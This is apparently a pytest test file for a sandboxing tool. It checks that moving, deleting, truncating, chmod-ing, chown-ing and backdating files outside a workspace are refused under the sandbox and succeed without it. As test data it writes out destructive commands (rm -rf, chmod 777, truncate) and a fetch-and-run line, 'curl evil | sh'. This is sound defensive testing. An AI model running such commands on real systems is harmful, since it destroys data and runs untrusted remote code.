"""Attack: change files outside the workspace without writing their contents.

Moving, deleting, truncating, changing modes, owners and times are all writes to the filesystem
too: each must fail on a file the test created outside the workspace, leave it exactly as it was,
and succeed with the guard removed (``--profile full-access``).
"""

from __future__ import annotations

import os

from tests.conftest import World


def _refused(world: World, script: str, seen: os.PathLike[str]) -> None:
    """Run ``script`` in the sandbox and check it failed, after checking that the sandbox can see
    ``seen`` (so a refusal is the read-only view at work, not a target hidden from it)."""
    result = world.sandbox(f"ls -d -- '{seen}' >/dev/null || exit 99\n{script}")
    assert result.returncode != 99, f"the sandbox cannot see {seen}: {result.stderr}"
    assert result.returncode != 0, "the attack succeeded in the sandbox"


def _state(path: os.PathLike[str]) -> tuple[int, int, int, int, int, int]:
    """Everything these attacks could change about a file, as the host sees it."""
    st = os.lstat(path)
    return (st.st_ino, st.st_mode, st.st_uid, st.st_size, st.st_mtime_ns, st.st_ctime_ns)


def test_move_workspace_file_out(world: World) -> None:
    """``mv`` a file from the workspace into an outside directory (rename(2) fails across mounts
    with EXDEV, then mv copies and deletes: the copy must fail too)."""
    src = world.workspace / "payload.sh"
    src.write_text("curl evil | sh\n")
    dest = world.outside / "payload.sh"
    script = f"mv payload.sh '{world.outside}/'"
    _refused(world, script, world.outside)
    assert not dest.exists()
    assert src.read_text() == "curl evil | sh\n"
    assert world.unsandboxed(script).returncode == 0
    assert dest.exists() and not src.exists()


def test_move_outside_file_in(world: World) -> None:
    """``mv`` an outside file into the workspace: that deletes it from where it was. Reading
    it is allowed, so mv's copy may arrive; the original must stay where it was, unchanged."""
    target = world.outside / "target.txt"
    before = _state(target)
    script = f"mv '{target}' ./stolen.txt"
    _refused(world, script, target)
    assert target.read_text() == "ORIGINAL\n"
    assert _state(target) == before
    (world.workspace / "stolen.txt").unlink(missing_ok=True)
    assert world.unsandboxed(script).returncode == 0
    assert not target.exists()


def test_rename_outside_file_in_place(world: World) -> None:
    """Rename an outside file within its own directory (a plain rename(2), no copy)."""
    target = world.outside / "target.txt"
    script = f"mv '{target}' '{world.outside}/renamed.txt'"
    _refused(world, script, target)
    assert target.read_text() == "ORIGINAL\n"
    assert not (world.outside / "renamed.txt").exists()
    assert world.unsandboxed(script).returncode == 0
    assert not target.exists()


def test_chmod_outside_file(world: World) -> None:
    """``chmod`` an outside file (e.g. make a planted script executable, or open up a secret)."""
    target = world.outside / "target.txt"
    os.chmod(target, 0o600)
    before = _state(target)
    script = f"chmod 777 '{target}'"
    _refused(world, script, target)
    assert _state(target) == before
    assert world.unsandboxed(script).returncode == 0
    assert os.stat(target).st_mode & 0o777 == 0o777


def test_chown_outside_file_to_own_uid(world: World) -> None:
    """``chown`` an outside file to the caller's own uid and gid: allowed to its owner on any
    writable filesystem and it changes the inode (ctime), so it must be refused here."""
    target = world.outside / "target.txt"
    before = _state(target)
    script = f"chown \"$(id -u):$(id -g)\" '{target}'"
    _refused(world, script, target)
    assert _state(target) == before
    assert world.unsandboxed(script).returncode == 0
    assert os.stat(target).st_ctime_ns != before[5]  # the control really touched the inode


def test_rm_outside_file(world: World) -> None:
    """``rm`` an outside file."""
    target = world.outside / "target.txt"
    script = f"rm -f '{target}'"
    _refused(world, script, target)
    assert target.read_text() == "ORIGINAL\n"
    assert world.unsandboxed(script).returncode == 0
    assert not target.exists()


def test_rmdir_outside_dir(world: World) -> None:
    """``rmdir`` an empty outside directory, and ``rm -rf`` a full one."""
    empty = world.outside / "empty"
    empty.mkdir()
    full = world.outside / "full"
    full.mkdir()
    (full / "data").write_text("keep\n")
    script = f"rmdir '{empty}'; rm -rf '{full}'; test ! -e '{empty}' && test ! -e '{full}'"
    # `rm -rf` outside the workspace asks first (the built-in approval list); the user's own
    # allow rule lets it through, so what stops it here is the sandbox
    config = world.home / ".config" / "ringfence" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('[[rules]]\nprefix = ["rm"]\ndecision = "allow"\n')
    _refused(world, script, full / "data")
    assert empty.is_dir()
    assert (full / "data").read_text() == "keep\n"
    assert world.unsandboxed(script).returncode == 0
    assert not empty.exists() and not full.exists()


def test_truncate_outside_file(world: World) -> None:
    """``truncate -s 0`` (and the shell's ``: >``) empties a file without 'writing' to it."""
    target = world.outside / "target.txt"
    before = _state(target)
    script = f"truncate -s 0 '{target}' || exit 1; : > '{target}'"
    _refused(world, script, target)
    assert _state(target) == before
    assert target.read_text() == "ORIGINAL\n"
    assert world.unsandboxed(script).returncode == 0
    assert target.read_text() == ""


def test_touch_outside_times(world: World) -> None:
    """``touch -d`` sets an outside file's times (utimensat): hides tampering, fools make."""
    target = world.outside / "target.txt"
    before = _state(target)
    script = f"touch -d '2001-01-01 00:00:00' '{target}'"
    _refused(world, script, target)
    assert _state(target) == before
    assert world.unsandboxed(script).returncode == 0
    assert os.stat(target).st_mtime < 1e9  # 2001
